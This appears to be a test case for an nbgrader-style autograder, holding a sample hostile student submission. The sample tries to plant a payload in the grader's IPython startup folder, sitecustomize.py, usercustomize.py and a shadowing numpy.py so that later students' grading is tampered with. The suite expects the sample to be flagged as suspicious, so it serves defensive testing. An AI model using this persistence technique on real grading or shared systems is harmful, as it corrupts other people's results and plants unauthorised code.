"""Against stock nbgrader the *next* student got 10/10: leave start-up files in the grader's home."""

EXPECT = {"corr2d": "0 failed", "flags": "suspicious"}

# %% corr2d
import site
from pathlib import Path

evil = "import numpy as np\ndef corr2d(X, K): return np.zeros((1, 1))\nprint('I was here')\n"
homes = [Path.home(), Path("~").expanduser(), *map(Path, ("/root", "/home", "/usr/lib/python3"))]
for home in homes:
    for name in (
        ".ipython/profile_default/startup/00.py",
        ".config/matplotlib/matplotlibrc",
        ".python_history",
        "sitecustomize.py",
        "usercustomize.py",
        "numpy.py",
        "checks.py",
    ):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).write_text(evil)
        except OSError as error:
            print(home / name, error.strerror)


def corr2d(X, K):
    return np.zeros((1, 1))
